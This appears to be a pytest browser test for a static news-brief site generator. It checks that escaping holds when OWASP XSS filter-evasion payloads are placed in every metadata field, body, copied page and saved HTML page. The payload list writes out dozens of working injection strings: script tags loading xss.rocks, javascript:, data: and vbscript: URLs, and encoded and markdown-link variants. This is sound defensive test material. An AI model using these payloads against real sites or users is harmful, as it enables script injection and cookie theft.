"""XSS in a real browser: OWASP filter-evasion payloads in every field; no script may run.

Each payload goes into a markdown source's title, outlet, author, url, tags and body, and all of
them into a copied-text page and a saved HTML page. Every page and feed of the built site is then
opened in headless Chromium with `alert`, `confirm` and `prompt` trapped before the page's own
scripts: the test fails if any was called, if a dialog opened, if an element carries an event
handler, a script element or a non-http(s) link, or if a page asked another host for anything.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml

from briefgen.build import build
from briefgen.config import load_config
from cdp import Browser, browser, find_chromium
from sitekit import need, serve

pytestmark = pytest.mark.browser

# From the OWASP XSS Filter Evasion Cheat Sheet, plus markdown and feed-specific forms.
PAYLOADS = (
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml">',
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "![x](javascript:alert(1))",
    '<http://a.example/"onmouseover="alert(1)>',
    "]]><script>alert(1)</script><![CDATA[",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
)
URLS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)")
TRAP = """
window.__xss = [];
for (const name of ['alert', 'confirm', 'prompt', 'print']) {
  window[name] = (...args) => { window.__xss.push(name + ':' + args.join(',')); };
}
"""
PROBE = """(() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.trim().toLowerCase();
      if (name.startsWith('on')) bad.push(el.tagName + ' ' + name);
      if (['href', 'src', 'action', 'formaction', 'background', 'data', 'poster'].includes(name)
          && !/^(https?:|#|\\.{0,2}\\/|[a-z0-9_.-]+(\\/|\\.|$))/.test(value) && value !== '')
        bad.push(el.tagName + ' ' + name + '=' + value);
    }
    if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE'].includes(el.tagName)) bad.push(el.tagName);
  }
  return {called: window.__xss, bad: bad};
})()"""


def hostile_sources(folder: Path) -> int:
    folder.mkdir(parents=True)
    for number, payload in enumerate(PAYLOADS):
        meta = {
            "title": f"Payload {number} {payload}",
            "outlet": payload,
            "author": payload,
            "url": URLS[number % len(URLS)] if number % 2 else f"https://example.org/{payload}",
            "tags": [payload],
            "date": f"2026-01-{1 + number % 28:02d}",
        }
        body = (
            f"Residents of district {number} said the vote on the plan was held on Monday. "
            f"{payload}\n\n{payload} The council said the work would start next year.\n"
        )
        text = f"---\n{yaml.safe_dump(meta, allow_unicode=True)}---\n{body}"
        (folder / f"payload-{number:02d}.md").write_text(text, encoding="utf-8")
    lines = [
        f"In district {n} the council said on Monday that {n + 3} new homes were approved, and "
        f"residents quoted the notice {p} before the meeting ended late in the evening."
        for n, p in enumerate(PAYLOADS)
    ]
    page = "\n\n".join(["Home", "News", f"Council approves homes {PAYLOADS[0]}", *lines])
    (folder / "copied.txt").write_text(page + "\n\n\u00a9 2026 Example\n", encoding="utf-8")
    paragraphs = "".join(f"<p>The board met on Friday and voted. {p}</p>" for p in PAYLOADS)
    (folder / "saved.html").write_text(
        f"<!DOCTYPE html><html><head><title>{PAYLOADS[19]}</title></head>"
        f"<body><article><h1>Board votes {PAYLOADS[0]}</h1>{paragraphs}</article></body></html>",
        encoding="utf-8",
    )
    return len(PAYLOADS) + 2


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser(need(find_chromium(), "chromium")) as instance:
        yield instance


def test_no_payload_runs_in_any_page_or_feed(chromium: Browser, tmp_path: Path) -> None:
    files = hostile_sources(tmp_path / "project" / "sources")
    with serve(tmp_path / "www") as origin:
        (tmp_path / "project" / "briefgen.yaml").write_text(
            f"base_url: {origin}/site/\noutput: {tmp_path / 'www' / 'site'}\n", encoding="utf-8"
        )
        result = build(load_config(tmp_path / "project" / "briefgen.yaml"))
        assert len(result.analysis.loaded.records) == files
        site = tmp_path / "www" / "site"
        shown = "".join(p.read_text("utf-8") for p in site.rglob("*.html"))
        assert shown.count("&lt;SCRIPT SRC=http://xss.rocks/xss.js&gt;") >= 3, "payloads not shown"
        pages = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))
        pages += ["feed.xml", "atom.xml"]
        assert len(pages) >= 10
        failures: dict[str, object] = {}
        for page in pages:
            load = chromium.load(f"{origin}/site/{page}", 1024, init_script=TRAP, probe=PROBE)
            foreign = [u for u in load.requests if urlsplit(u).hostname not in ("127.0.0.1", None)]
            found = load.probe or {"called": ["no probe result"], "bad": []}
            dialogs = [p for p in load.problems if p.startswith("dialog")]
            if found["called"] or found["bad"] or foreign or dialogs:
                failures[page] = {**found, "foreign": foreign, "dialogs": dialogs}
        assert not failures, json.dumps(failures, indent=1)[:4000]
